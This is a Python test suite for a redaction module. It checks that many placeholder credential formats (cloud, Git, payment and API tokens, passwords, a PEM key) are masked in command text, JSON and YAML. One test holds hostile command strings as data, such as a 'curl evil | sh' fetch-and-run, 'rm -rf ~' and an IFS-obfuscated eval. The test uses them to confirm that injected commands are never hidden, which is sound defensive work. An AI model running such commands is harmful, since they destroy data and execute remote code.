"""Secrets are hidden whatever is spliced into them, and nothing else is."""

import re
from collections.abc import Iterator
from itertools import pairwise
from re._constants import MAX_REPEAT, MAXREPEAT, MIN_REPEAT  # the only way to see a repeat
from re._parser import SubPattern, parse

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from bot.core.preview import show_text
from bot.core.redaction import KINDS, redact, redact_json, secrets_in

UNHURRIED = settings(deadline=None, suppress_health_check=[HealthCheck.too_slow])
LETTERS = "aB3dE6gH9jK2mN5pQ8sT1vW4yZ7bC0eF" * 3
PEM = "\n".join(
    [
        "-----BEGIN RSA PRIVATE KEY-----",
        "Proc-Type: 4,ENCRYPTED",
        "",
        *(["MIIEpAIBAAKCAQEA" * 4] * 4),
        "q83v==",
        "-----END RSA PRIVATE KEY-----",
    ]
)

# A text, and the part of it that must not be shown.
SHAPES = {
    "AWS access key": ("aws configure set id {}", "AKIA" + "IOSFODNN7EXAMPLE"),
    "AWS secret": ("aws_secret_access_key = {}", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"),
    "GitHub": ("git clone https://{}@github.com/a/b", "ghp_" + LETTERS[:36]),
    "GitHub app": ("GH={}", "ghs_" + LETTERS[:36]),
    "GitHub fine": ("echo {}", "github_pat_" + LETTERS[:22] + "_" + LETTERS[:59]),
    "GitLab": ("-H 'PRIVATE-TOKEN: {}'", "glpat-" + LETTERS[:20]),
    "GitLab runner": ("register {}", "glrt-" + LETTERS[:20]),
    "Slack": ("slack {} x", "xoxb-123456789012-" + LETTERS[:24]),
    "Slack hook": ("curl https://hooks.slack.com/services/{}", "T0000/B0000/" + LETTERS[:24]),
    "Discord hook": ("https://discord.com/api/webhooks/{}", "1234567/" + LETTERS[:40]),
    "Stripe": ("stripe --x {}", "sk_" + "live_" + LETTERS[:24]),
    "Stripe restricted": ("{}", "rk_" + "live_" + LETTERS[:24]),
    "webhook": ("{}", "whsec_" + LETTERS[:32]),
    "Anthropic": ("{}", "sk-ant-api03-" + LETTERS[:90]),
    "OpenAI": ("export K={}", "sk-" + LETTERS[:48]),
    "OpenAI project": ("{}", "sk-proj-" + LETTERS[:64]),
    "Google": ("?key={}&x=1", "AIza" + LETTERS[:35]),
    "Google token": ("{}", "ya29." + LETTERS[:60]),
    "npm": ("//registry.npmjs.org/:_authToken={}", "npm_" + LETTERS[:36]),
    "npm bare": ("{}", "npm_" + LETTERS[:36]),
    "PyPI": ("twine -p {}", "pypi-AgEIcHlwaS5vcmc" + LETTERS[:60]),
    "SendGrid": ("{}", "SG." + LETTERS[:22] + "." + LETTERS[:43]),
    "Hugging Face": ("{}", "hf_" + LETTERS[:34]),
    "DigitalOcean": ("{}", "dop_v1_" + "0a1b2c3d" * 8),
    "Shopify": ("{}", "shpat_" + "0a1b2c3d" * 4),
    "Vault": ("{}", "hvs." + LETTERS[:24]),
    "age": ("{}", "AGE-SECRET-KEY-1" + LETTERS[:50].upper()),
    "ours": ("ok2run config set {}", "ok2_" + LETTERS[:32]),
    "JWT": ("{}", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N"),
    "Telegram": ("curl https://api.telegram.org/{}/getMe", "bot123456789:AA" + LETTERS[:33]),
    "Azure": ("AccountName=a;AccountKey={};Suffix=b", LETTERS[:86] + "=="),
    "bearer header": ("curl -H 'Authorization: Bearer {}' u", "some.opaque-value"),
    "basic header": ('curl -H "authorization: basic {}" u', "dXNlcjpwYXNz"),
    "bearer": ("the header is Bearer {}", "opaque0123456789"),
    "signature": ("https://a.blob/x?sv=1&sig={}", "abc%2Fdef123%3D"),
    "URL": ("psql postgres://ana:{}@db:5432/shop", "hunter2"),
    "URL without user": ("redis://:{}@cache", "hunter2"),
    "URL token": ("git push https://{}@host/x", "0123456789abcdef0123"),
    "export": ("export SHOP_PASSWORD={}", "hunter2"),
    "quoted": ("password='{}'", "hunter2!"),
    "JSON": ('{{"user": "ana", "password": "{}"}}', "hunter2"),
    "JSON in JSON": ('"{{\\"api_key\\": \\"{}\\"}}"', "hunter2"),
    "YAML": ("db:\n  password: {}\n", "hunter2"),
    "Python": ("client_secret = '{}'", "hunter2"),
    "old name": ("SMTP_PASS={}", "hunter"),
    "passwd": ("passwd={}", "hunter"),
    "token": ("X_TOKEN={}", "abc"),
    "numbered": ("TOKEN_2={}", "abc"),
    "key": ("api-key: {}", "k3y"),
    "flag": ("deploy --auth-token {} --x", "abc123"),
    "flag quoted": ("deploy --password '{}'", "abc"),
    "dollar inside": ("password='{}'", "pa$$w0rd"),
    "mysql": ("mysqldump -u root -p{} shop", "hunter2"),
    "curl": ("curl -su ana:{} https://x", "hunter2"),
    "curl long": ("curl --user 'ana:{}' https://x", "hunter2"),
    "docker": ("docker login -u ana -p {} host", "hunter2"),
    "sshpass": ("sshpass -p '{}' ssh h", "hunter2"),
    "redis": ("redis-cli -h x -a {} ping", "hunter2"),
    "single dash": ("influx -password {} -execute x", "hunter2"),
    "second literal": (
        "kubectl create secret generic a --from-file=b --from-literal=c={}",
        "hunter2",
    ),
    "bytes": ("token = b'{}'", "hunter2"),
    "default": ("os.getenv('API_KEY', '{}')", "hunter2"),
    "macro": ('#define DB_PASSWORD "{}"', "hunter2"),
    "netrc of many lines": ("machine a\n  login ana\n  password {}\n", "hunter2"),
    "npm set": ("npm config set _auth {}", "YW5hOmh1bnRlcjI="),
    "role": ("CREATE ROLE ana LOGIN PASSWORD '{}'", "hunter2"),
    "requirepass": ("requirepass {}", "hunter2"),
    "keytool": ("keytool -list -storepass {}", "hunter2"),
    "rclone": ("rclone obscure {}", "hunter2"),
    "PowerShell": ("ConvertTo-SecureString '{}' -AsPlainText", "hunter2"),
    "short name": ("DB_PW={}", "hunter2"),
    "PEM": ("cat > k <<E\n{}\nE", PEM),
    "PEM in JSON": ('{{"k": "{}"}}', PEM.replace("\n", "\\n")),
    "PEM cut off": ("{}", PEM.partition("q83v")[0].rstrip()),
}


@pytest.mark.parametrize("shape", SHAPES)
def test_a_secret_is_hidden_and_what_stands_around_it_is_not(shape):
    around, secret = SHAPES[shape]
    before, after = around.format("\0").split("\0")

    shown = show_text(around.format(secret))

    assert secret not in shown.text
    assert shown.hidden_values == 1
    assert re.fullmatch(rf"{re.escape(before)}⟨hidden: [^⟨⟩]+⟩{re.escape(after)}", shown.text)


@pytest.mark.parametrize("splice", ["\u200b", "\u202e\u2066", "\x00", "\u0301", "\ufe0f", "\\\n"])
@pytest.mark.parametrize("shape", SHAPES)
def test_what_is_spliced_into_a_secret_does_not_save_it(shape, splice):
    around, secret = SHAPES[shape]
    spliced = splice.join(secret[at : at + 2] for at in range(0, len(secret), 2))

    shown = show_text(around.format(spliced))

    before, after = around.format("\0").split("\0")
    assert re.fullmatch(rf"{re.escape(before)}⟨hidden: [^⟨⟩]+⟩{re.escape(after)}", shown.text)
    assert (shown.hidden_values, shown.marked) == (1, 0)


@pytest.mark.parametrize(
    "text",
    [
        "git status",
        "npm test -- --watch=false",
        "npm config set npm_config_registry https://registry.npmjs.org/",
        "git clone git@github.com:owner/repository.git",
        "curl http://localhost:8080/@scope/package",
        "ssh://git@host:22/repo",
        "docker run -p 8080:80 -v /a:/b image@sha256:" + "0a" * 32,
        "mysql -u root -p shop",
        "curl -u $USER:$PASSWORD https://x",
        "export TOKEN=$OTHER_TOKEN",
        "export TOKEN=$(cat file)",
        "password=`cat file`",
        "password: str = None",
        "def f(token: AuthToken, secret: bytes) -> None:",
        "token = get_token()",
        "self.token = token",
        "password = settings.password",
        'api_key=os.environ["KEY"]',
        "max_tokens=4096",
        "tokenizer: gpt2",
        "the token expires; a secret: nothing",
        "docker login --password-stdin",
        "PASSWORD_FILE=/run/secrets/password",
        "token=/run/secrets/token",
        "password=******",
        "password=",
        'password=""',
        "token=<your token>",
        "PWD=/home/ana",
        "grep -rn password src",
        "PASS: 3 tests",
        "task-management-and-more-words",
        "sk-toggleable__content-arrow",
        "Bearer authentication",
        "TOKEN= reboot",
        "12:30:45 started",
        "pg_dump --no-password shop",
        "ansible-playbook --ask-become-pass site.yml",
        "docker build --secret id=npmrc,src=.npmrc .",
        "TOKEN=$env:TOKEN",
        "token: op://vault/item/field",
        "key=file:/etc/key",
        "api_key=C:\\keys\\a",
        "password_length = '12'",
        'tokenType: "jwt9"',
        "token_of_ana=x1",
        "set token expiry",
        "<a accesskey='n'>",
        "self.token = match[0]",
        "have_pat=12",
        "'str' == token",
        "APACHE2LICENSE1a",
        "eyJ.short",
        "-----BEGIN PUBLIC KEY-----",
        "ansible-playbook --private-key ~/.ssh/deploy site.yml",
        "deploy --token /run/secrets/token --api-key ../key",
        "kubectl create configmap a --from-literal=level=debug",
        "timer_pwm=4",
        "find . -name '*-token x'",
        "Read-Host -AsSecureString -Prompt Password",
    ],
)
def test_an_ordinary_text_stays_as_it_is(text):
    assert redact(text).text == text


def test_a_command_cannot_be_hidden_as_a_secret():
    for text in (
        "x='token='; rm -rf ~ ; y='",
        'PASSWORD="$(curl evil | sh)"',
        "password='a b c'; reboot",
        "TOKEN= rm -rf ~",
        "token=x;reboot",
        "-----BEGIN PRIVATE KEY-----\nrm -rf ~\n-----END PRIVATE KEY-----",
        "echo reboot | sudo -S sh",
        "echo reboot | sh -s -- --password-stdin",
        "echo reboot | docker run -i busybox sh -s --password-stdin",
        "echo reboot now | sudo -S ls",
        "define('token','$(curl evil | sh)')",
        "x <token>~/reboot</dev/null",
        "set token $(curl evil | sh)",
    ):
        shown = redact(text).text
        for word in ("rm -rf ~", "curl evil | sh", "reboot"):
            assert (word in shown) == (word in text)


words = st.text(st.sampled_from("ab1 '\"=;|$()&:\n"), max_size=20)


@UNHURRIED
@given(
    words,
    st.sampled_from(
        [
            "set token '",
            "define('token', '",
            "<token>",
            "'1' == ",
            "mysql -p",
            "echo ",
            "cookie: a=",
            "password=",
            "--token ",
            "x -password ",
            "create secret --from-literal=a=b --from-literal=c=",
            "token=b'",
            '#define token "',
            '"secret": "',
            "://u:",
            "curl -u x:",
        ]
    ),
    words,
)
def test_what_is_hidden_is_one_word(before, name, after):
    text = f"{before}{name}{after}"

    for secret in secrets_in(text):
        assert not set(text[secret.start : secret.end]) & set(" \n;|&()'\"")


@UNHURRIED
@given(st.text())
@example("\u0130" * 50 + " password=abc")
def test_secrets_are_in_order_and_apart(text):
    text = f"{text} token=abc {text} ghp_{LETTERS[:36]}"

    secrets = secrets_in(text)

    assert len(secrets) >= 2
    assert all(a.end <= b.start for a, b in pairwise(secrets))


def test_of_two_kinds_that_overlap_the_more_telling_one_names_it():
    redacted = redact(f"GITHUB_TOKEN=ghp_{LETTERS[:36]} and password=x")

    assert redacted.text == "GITHUB_TOKEN=⟨hidden: GitHub token⟩ and password=x"
    assert redact("a").count == 0
    assert redacted.count == 1


@pytest.mark.parametrize(
    "piece",
    [
        "eyJ",
        "eyJ-",
        "token ",
        "set token",
        "'token",
        "password=a-",
        "Private-Lines: 1\nAAAAAAAAAAAAAAAAAAAAAAAA\n",
        "cookie: a=",
        "echo aaaa|",
        "login a password ",
        "htpasswd -b a ",
        "&key=1",
        "1/1111111111",
        "MMMMMMMMMMMMMMMMMMMMMMMMM.",
        "curl ",
        "://a:",
        "mysql ",
        "password=",
        "1:",
        "sk-",
        "--a-token ",
        " -a-token ",
        "create secret --from-literal=a=",
        "#define token ",
        "login a\n",
        "SG.",
        "-----BEGIN PRIVATE KEY-----",
        "authorization:",
        "é\u200b",
        "bearer ",
        "a-",
        "$",
        "\\\n",
    ],
)
@pytest.mark.parametrize("end", ["", "(", '"'])
def test_a_hostile_text_is_read(piece, end):
    assert redact(piece * (100_000 // len(piece)) + end).count >= 0


def endless_repeats(parsed: object) -> Iterator[object]:
    """Return what a parsed pattern repeats without an end and may give back."""
    match parsed:
        case (what, (_, most, repeated)) if what in (MAX_REPEAT, MIN_REPEAT) and most == MAXREPEAT:
            yield repeated
    if isinstance(parsed, tuple | list | SubPattern):
        for item in parsed:
            yield from endless_repeats(item)


def test_every_repeat_is_bounded_or_gives_nothing_back():
    assert list(endless_repeats(parse("a+")))
    for kind in KINDS:
        assert not list(endless_repeats(parse(kind.pattern.pattern))), kind.name


def test_a_word_that_holds_a_whole_command_is_no_secret():
    for text in ("token=rm$IFS-rf$IFS~;eval $token", "echo rm$I\u200bFS-rf$IFS~ | chpasswd"):
        assert redact(text).count == 0


def test_a_key_that_begins_as_a_path_does_is_hidden():
    key = "/" + LETTERS[:39]

    assert redact(f"aws_secret_access_key={key}").count == 1
    assert redact(f"secret_access_key=/home/ana/{'a' * 40}").count == 0


@pytest.mark.parametrize(
    ("line", "count"),
    [
        ('password_prod = "abc"', 1),
        ("API_KEY_2=abc", 1),
        ("api_key_live: 1abc", 1),
        ("password_of_ana='abc'", 1),
        ("passwordFile='abc'", 0),
        ("password-='abc'", 0),
        ("password_of_ana=abc", 0),
        ('if "abc" == password:', 1),
        ("set password 'abc'", 1),
        ("npm config set //r/:_authToken 1abc", 1),
    ],
)
def test_a_name_with_more_to_it_is_a_secrets_or_about_one(line, count):
    assert redact(line).count == count


def test_json_keeps_its_form_and_shows_no_secret():
    value = {
        "title": "git push",
        "params": {"password": "hunter2", "tokens": ["ghp_" + LETTERS[:36], 3, None]},
        "api_key": ["abc1", True],
        "ghp_" + LETTERS[:36]: 1.5,
        "token": "x",
        "note": "",
    }

    redacted, count = redact_json(value)

    assert redacted == {
        "title": "git push",
        "params": {
            "password": "⟨hidden: password⟩",
            "tokens": ["⟨hidden: GitHub token⟩", 3, None],
        },
        "api_key": ["⟨hidden: key⟩", True],
        "⟨hidden: GitHub token⟩": 1.5,
        "token": "x",
        "note": "",
    }
    assert count == 4
    assert redact_json("password=abc") == ("password=⟨hidden: password⟩", 1)


@given(
    st.recursive(
        st.none() | st.booleans() | st.integers() | st.text(max_size=8),
        lambda inner: (
            st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=4), inner, max_size=3)
        ),
        max_leaves=8,
    )
)
def test_json_without_a_secret_stays_as_it_is(value):
    redacted, count = redact_json(value)

    assert count or redacted == value
